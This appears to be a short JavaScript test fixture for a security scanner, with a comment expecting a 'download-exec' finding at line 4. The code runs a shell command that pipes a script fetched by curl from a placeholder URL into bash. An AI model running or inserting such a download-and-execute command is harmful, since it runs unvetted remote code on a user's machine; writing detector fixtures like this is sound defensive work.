// expect: download-exec 4:14
const { exec } = require('child_process');
const url = 'https://example.com/x.sh';
exec(`bash <(curl -s ${url})`);
